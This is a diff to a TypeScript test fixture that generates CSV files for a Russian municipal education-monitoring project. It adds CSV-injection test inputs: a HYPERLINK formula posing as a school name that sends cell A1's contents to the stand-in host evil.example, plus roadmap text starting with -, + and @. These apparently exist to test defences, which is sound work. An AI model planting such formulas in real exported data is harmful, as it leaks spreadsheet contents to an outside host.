@@ -6,6 +6,9 @@
 import { csv, makeData, toCp1251 } from './fixture.ts';
 
 export const TRICKY_NAME = 'Школа <b>«Радуга»</b> & "Ко"';
+/** Text a spreadsheet would run as a formula, in a school's name and in roadmap lines (CSV injection). */
+export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"СОШ № 3")';
+export const FORMULA_TEXTS = [FORMULA_NAME, '-Анализ результатов ОГЭ', '+управление образования', '@ОО'];
 
 export function independentMunicipality(): string {
   const semi = (rows: (string | number)[][]) => toCp1251(rows.map((r) => r.join(';')).join('\r\n') + '\r\n');
@@ -47,9 +50,9 @@ export function independentMunicipality(): string {
     [
       '1.3',
       'Мониторинг качества обучения',
-      'Анализ результатов ОГЭ, полученных участниками ОГЭ - лицами с ограниченными возможностями здоровья',
+      '-Анализ результатов ОГЭ, полученных участниками ОГЭ - лицами с ограниченными возможностями здоровья',
       'август 2022',
-      'управление образования',
+      '+управление образования, @ОО',
     ],
   ];
   const reports = [
@@ -64,7 +67,7 @@ export function independentMunicipality(): string {
       ['Код ОО', 'Краткое наименование', 'Тип'],
       ['01', TRICKY_NAME, 'СОШ'],
       ['02', 'Гимназия № 2', 'гимназия'],
-      ['03', 'СОШ № 3', 'СОШ'],
+      ['03', FORMULA_NAME, 'СОШ'],
     ]),
     'results/2021/ege.csv': semi(ege.map((r, i) => (i === 0 ? r : [r[0], r[1], r[2], Number(r[3]) - 2, r[4]]))),
     'results/2022/ege.csv': semi(ege),
